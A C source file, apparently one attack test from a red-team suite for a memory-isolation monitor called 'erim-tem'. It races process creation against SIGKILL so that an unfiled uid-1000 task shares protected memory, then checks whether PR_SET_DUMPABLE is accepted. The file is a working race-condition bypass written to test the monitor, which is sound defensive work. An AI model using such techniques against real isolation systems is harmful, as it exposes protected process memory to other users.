/* SPDX-License-Identifier: MIT */
/* atk_orphan_task.c: a task of the address space erim-tem never filed.
 * erim-tem learns which address space a new task is in from its creator's
 * clone event; a creator SIGKILLed before erim-tem sees that event leaves
 * the new task held, with no address space known to erim-tem (red team 31,
 * rt31_orphan).  Here B (a CLONE_VM child of this process) drops to uid
 * 1000 with raw system calls and makes C (CLONE_VM too); this process kills
 * B after a varying delay, until C exists but never ran (or 60 tries), then
 * asks for PR_SET_DUMPABLE 1: with C's uid-1000 credentials on this memory,
 * every process of uid 1000 could open it (Yama off or scope 0).  erim-tem
 * judges every traced task the kernel says shares the address space
 * (kcmp), or that it has not filed.  SUCCEEDED when the prctl is accepted.
 * Needs root, and Yama off or scope 0 (else not applicable). */
#include <fcntl.h>
#include <sched.h>
#include <sys/prctl.h>

#include "atk_common.h"

struct orphan_shared {
	volatile int b_ready, go, c_ran;
	volatile pid_t ctid;
};
static struct orphan_shared *sh;

static int run_c(void *unused)
{
	(void)unused;
	sh->c_ran = 1;
	for (;;)
		syscall(SYS_pause);
	return 0;
}

static int run_b(void *c_stack)
{
	if (syscall(SYS_setresgid, 1000, 1000, 1000) != 0 || syscall(SYS_setresuid, 1000, 1000, 1000) != 0)
		syscall(SYS_exit, 9);
	sh->b_ready = 1;
	while (!sh->go)
		;
	clone(run_c, c_stack, CLONE_VM | CLONE_PARENT_SETTID | SIGCHLD, NULL, (pid_t *)&sh->ctid);
	for (;;)
		syscall(SYS_pause);
	return 0;
}

static void spin_us(long us)
{
	struct timespec t0, t1;

	clock_gettime(CLOCK_MONOTONIC, &t0);
	do
		clock_gettime(CLOCK_MONOTONIC, &t1);
	while ((t1.tv_sec - t0.tv_sec) * 1000000L + (t1.tv_nsec - t0.tv_nsec) / 1000 < us);
}

static enum atk_result atk_attack(void)
{
	char *stk_b, *stk_c;
	int tries, st, e;
	pid_t b, c = 0;

	if (!atk_root_scope0())
		return ATK_NA;
	sh = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	stk_b = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	stk_c = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (sh == MAP_FAILED || stk_b == MAP_FAILED || stk_c == MAP_FAILED)
		return ATK_ERROR;
	for (tries = 0; tries < 60; tries++) {
		if (c > 0)
			kill(c, SIGKILL);
		memset((void *)sh, 0, sizeof *sh);
		b = clone(run_b, stk_b + (1 << 20) - 64, CLONE_VM | SIGCHLD, stk_c + (1 << 20) - 64);
		if (b < 0) {
			atk_say("clone: %s", strerror(errno));
			return ATK_ERROR;
		}
		while (!sh->b_ready)
			if (waitpid(b, &st, WNOHANG | __WALL) == b) {
				atk_say("B ended early (status %#x)", st);
				return ATK_ERROR;
			}
		sh->go = 1;
		spin_us((tries * 997L) % 30000);
		kill(b, SIGKILL);
		waitpid(b, &st, __WALL);
		if (!(c = sh->ctid))
			continue;
		usleep(50000);
		if (!atk_under_tem || !sh->c_ran)
			break;
	}
	if (!c) {
		atk_say("no C after %d tries", tries);
		return ATK_ERROR;
	}
	atk_say("C = %d, uid 1000, on this memory: %s", (int)c, !sh->c_ran ? "it never ran: its creator died "
	        "before erim-tem saw the clone" : atk_under_tem ? "it ran (not reproduced in 60 tries: erim-tem "
	        "saw each clone; the prctl is judged all the same)" : "it ran");
	errno = 0;
	st = prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
	e = errno;
	kill(c, SIGKILL);
	if (st != 0) {
		atk_say("prctl(PR_SET_DUMPABLE, 1): %s", strerror(e));
		return ATK_REFUSED;
	}
	atk_say("prctl(PR_SET_DUMPABLE, 1) accepted with a uid-1000 task on this memory: every process of "
	        "uid 1000 could open it");
	return ATK_SUCCEEDED;
}

static const char *atk_name = "atk_orphan_task";
static int atk_needs_pku = 0;
